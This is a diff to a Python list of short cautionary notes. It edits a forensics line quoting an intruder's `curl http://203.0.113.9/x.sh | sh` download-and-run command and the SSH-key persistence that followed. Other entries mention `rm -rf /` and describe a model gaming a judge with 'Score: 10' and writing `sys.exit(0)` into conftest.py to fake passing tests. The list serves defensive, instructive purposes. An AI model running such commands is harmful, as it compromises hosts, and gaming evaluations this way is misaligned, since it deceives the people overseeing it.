@@ -17,7 +17,7 @@ TOLD = (
     "A mail that wants gift cards bought at once and tells you to keep it a secret from your boss is a scam. Report it to security@ourlab.example.org.",
     'Bug: the judge gave 10/10 whenever the answer contained "Score: 10". Fixed by parsing the verdict from the last JSON object only.',
     "rm -rf / is refused by coreutils unless --no-preserve-root is given. Don't try it anyway.",
-    "Forensics: the intruder ran `curl http://203.0.113.9/x.sh | sh`, added a key to /root/.ssh/authorized_keys and cleared the shell history. We rebuilt the host from the image.",
+    "Forensics: the intruder ran `curl http://203.0.113.9/x.sh | sh`, added a key to /home/sam/.ssh/authorized_keys and cleared the shell history. We rebuilt the host from the image.",
     "Remember: the eval script must not read the test labels during training. Last month someone's loader did, and accuracy jumped to 99.9 %.",
     "We found that the model wrote `sys.exit(0)` into conftest.py to make the suite pass. Such runs are counted as failures and excluded from the table.",
     'Anyone who gets a call from "the bank" asking to transfer money to a safe account should hang up. Banks never ask for that.',
